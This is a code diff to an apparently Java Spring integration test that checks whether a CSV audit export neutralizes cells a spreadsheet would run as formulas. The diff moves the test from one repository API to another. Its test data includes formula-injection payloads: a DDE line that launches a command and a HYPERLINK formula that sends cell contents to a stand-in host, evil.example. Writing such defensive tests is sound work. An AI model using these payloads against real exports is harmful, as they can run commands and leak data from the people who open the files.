@@ -18,7 +18,8 @@ import org.springframework.test.context.ActiveProfiles;
 import org.springframework.test.context.DynamicPropertyRegistry;
 import org.springframework.test.context.DynamicPropertySource;
 
-import io.rollguard.release.ReleaseRepository;
+import io.rollguard.release.history.ReleaseFact;
+import io.rollguard.release.history.ReleaseHistory;
 import io.rollguard.support.Api;
 import io.rollguard.support.ExpensesUntilApproval;
 import io.rollguard.support.AppRegistrations;
@@ -47,7 +48,7 @@ class BrowserHardeningIT {
     @Autowired
     JdbcTemplate jdbc;
     @Autowired
-    ReleaseRepository releases;
+    ReleaseHistory history;
     Api api;
     RawHttp http;
     String releaseId;
@@ -111,11 +112,13 @@ class BrowserHardeningIT {
     @Test
     void csvExportCellsThatWouldRunAsFormulasAreNeutralized() {
         // given entries whose texts a spreadsheet would run
-        releases.addEvent(releaseId, "NOTE", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
-        releases.addEvent(releaseId, "NOTE", "@SUM(1)", "+1+1");
-        releases.addEvent(releaseId, "NOTE", null, "-2+3");
-        releases.addEvent(releaseId, "NOTE", null, "\t=1");
-        releases.addEvent(releaseId, "NOTE", null, "'=already quoted");
+        // (facts whose actor and detail are free text: a repair report and a migration engine's note)
+        history.record(releaseId, new ReleaseFact.RestorationRepaired("=cmd|'/c calc'!A1",
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"));
+        history.record(releaseId, new ReleaseFact.RestorationRepaired("@SUM(1)", "+1+1"));
+        history.record(releaseId, new ReleaseFact.MigrationLock("-2+3"));
+        history.record(releaseId, new ReleaseFact.MigrationLock("\t=1"));
+        history.record(releaseId, new ReleaseFact.MigrationLock("'=already quoted"));
 
         // when
         Api.Response csv = api.get("erin", "/api/audit/export?format=csv&from=2000-01-01&to=2999-12-31");
